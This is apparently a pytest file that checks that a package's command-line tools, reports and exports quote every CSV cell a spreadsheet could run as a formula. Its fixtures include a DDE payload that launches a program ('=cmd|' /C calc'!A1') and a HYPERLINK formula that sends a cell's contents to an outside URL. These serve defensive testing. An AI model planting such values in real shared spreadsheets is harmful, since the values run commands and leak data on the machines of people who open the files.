"""Names and categories that begin like a formula: a spreadsheet runs none of them, whatever file has them."""

import ast
import csv
import io
from pathlib import Path
from urllib.parse import unquote

import numpy as np
import pytest
from browser import browser
from reproduction.output import csv_table
from reproduction.result_table import ResultTable
from typer.testing import CliRunner

import unpooled
from unpooled.app.cli import app
from unpooled.site.table_store import SummaryFolder
from unpooled.storage.spreadsheet import csv_text, neutralised

LINK = '=HYPERLINK("http://example.org?x="&A1,"click")'
COLUMNS = (LINK, "+plus", "-minus", "@at")
CATEGORIES = ("=cmd|' /C calc'!A1", "+yes", "-no", "@maybe", "'=quoted", '"=twice', "\uff1dwide")
SITES = ("=north", "@south")


def call(*words):
    done = CliRunner().invoke(app, [str(word) for word in words])
    assert done.exit_code == 0, done.output
    return done.output


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """A folder with all that the commands write about a table of such names; and the table."""
    home = tmp_path_factory.mktemp("formulas")
    rng = np.random.default_rng(0)
    rows = [["=id", "=site", *COLUMNS, "=kind"]]
    for i in range(420):
        group = i % 2
        numbers = [f"{value:.4f}" for value in rng.normal(9 * group - 5, 1, len(COLUMNS))]
        rows.append([f"-p{i}", SITES[i % 3 // 2], *numbers, CATEGORIES[rng.integers(len(CATEGORIES))]])
    table = tmp_path_factory.mktemp("table") / "people.csv"
    with table.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(rows)
    run = home / "run"
    read = ("--categorical", "=kind")
    split = ("--site-column", "=site", "--exclude", "=id")
    call("fit", table, *split, *read, "-k", 2, "--min-cluster-size", 1, "--out", run)
    call("release", run, "--preset", "datashield", "--out", home / "release")
    call("predict", run, table, "-o", home / "labels.csv", "--id", "=id", "--keep", "-minus,=kind,=site")
    call(
        "site",
        "summarize",
        "--no-sensitive-columns",
        home / "site",
        "--data",
        table,
        "--person",
        "=id",
        "--exclude",
        "=site",
        *read,
    )
    call("site", "approve", "--table", "--yes", home / "site")
    call("site", "review", home / "site", "--csv", home / "table.csv")
    call(
        "site",
        "summarize",
        "--no-sensitive-columns",
        home / "site",
        "--data",
        table,
        "--people-out",
        home / "people.csv",
    )
    return home, table


def cells(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def runs(cell):
    """Whether a spreadsheet would take a cell for a formula: written apart from the rule of the product."""
    first = cell.lstrip()[:1]
    try:
        float(cell)
    except ValueError:
        return cell[:1] in ("\t", "\r", "\n") or first in (
            "=",
            "+",
            "-",
            "@",
            "\uff1d",
            "\uff0b",
            "\uff0d",
            "\uff20",
        )
    return False


def test_no_file_that_a_command_writes_has_a_formula(written):
    home, _ = written
    assert not [path for path in home.rglob("*") if path.suffix in (".xlsx", ".xls", ".ods", ".tsv")]
    found = {path.relative_to(home).as_posix(): cells(path) for path in home.rglob("*.csv")}
    hostile = {name for name, texts in found.items() if any(runs(text.lstrip("'\"")) for text in texts)}
    expected = {"release/clusters_by_site.csv", "release/profiles.csv", "release/categories.csv"}
    assert hostile >= {*expected, "labels.csv", "table.csv", "site/summary/table.csv", "people.csv"}
    assert {"run/history.csv", "release/clusters.csv", "release/scores.csv"} <= found.keys()
    for name, texts in found.items():
        assert [text for text in texts if runs(text)] == [], name


def test_plain_numbers_stay_numbers(written):
    home, table = written
    with (home / "labels.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    with table.open(newline="", encoding="utf-8") as file:
        given = list(csv.DictReader(file))
    assert [row["'-minus"] for row in rows] == [row["-minus"] for row in given]
    assert any(row["'-minus"].startswith("-") for row in rows)
    assert [row["'=id"] for row in rows] == [f"'{row['=id']}" for row in given]


def test_the_summary_table_keeps_its_names(written):
    """Its table is read back: by the order of its columns, and with the names in about.json."""
    home, _ = written
    table = SummaryFolder(home / "site").read()  # raises if it is not the one that was written
    assert {*COLUMNS, "=kind"} <= set(table.names)
    assert set(table.categories["=kind"]) == set(CATEGORIES)


def test_the_tables_that_a_report_saves_have_none(written, tmp_path):
    home, _ = written
    with browser(tmp_path / "profile") as tab:
        tab.open(home / "run" / "report.html")
        saved = tab.value(
            """(() => {
                const kept = [];
                HTMLAnchorElement.prototype.click = function () { kept.push(this.href); };
                const all = [...document.querySelectorAll('button')];
                all.filter(b => b.textContent === 'CSV').forEach(b => b.onclick());
                return kept;
            })()"""
        )
    texts = [
        cell
        for address in saved
        for row in csv.reader(unquote(address.partition(",")[2]).splitlines())
        for cell in row
    ]
    assert f"'{LINK}" in texts
    assert f"'{SITES[0]}" in texts
    assert [text for text in texts if runs(text)] == []


def test_the_tables_of_papers_have_none():
    table = ResultTable("name", "title", ("=head", "-other"), ())
    assert csv_table(table).startswith("'=head,'-other,published,")


@pytest.mark.parametrize(
    "text",
    [
        "=1",
        "+1+1",
        "-1+2",
        "-x",
        "@a",
        "\t=1",
        "\r=1",
        "\tx",
        "\rx",
        " =1",
        "\u00a0@x",
        "'=1",
        '"=1',
        "'\" +x",
    ],
)
def test_what_could_be_a_formula_gets_a_quote(text):
    assert neutralised(text) == f"'{text}"
    assert next(csv.reader(io.StringIO(csv_text([[text]]), newline=""))) == [f"'{text}"]


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "age",
        "a=1",
        "a-b",
        "-1",
        "-1.5",
        "+3",
        "-1e-05",
        "-1,5",
        "-12%",
        "-inf",
        " -2 ",
        "'tis",
        -1,
        -0.5,
        None,
    ],
)
def test_what_cannot_be_one_stays_as_it_is(cell):
    assert neutralised(cell) is cell


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n"])
def test_no_line_within_a_cell_begins_a_row(end):
    text = csv_text([[f"a{end}=1+1", "b"], ["c", f"d{end}"]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [[cell.replace("\r", "\n") for cell in row] for row in rows] == [
        [f"a{end}=1+1".replace("\r\n", "\n").replace("\r", "\n"), "b"],
        ["c", "d\n"],
    ]
    assert text.endswith('"\n')


def test_one_function_writes_all_csv():
    root = Path(unpooled.__file__).parent
    calls = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter", "to_csv", "to_excel", "Workbook")
    }
    assert calls == {"storage/spreadsheet.py"}
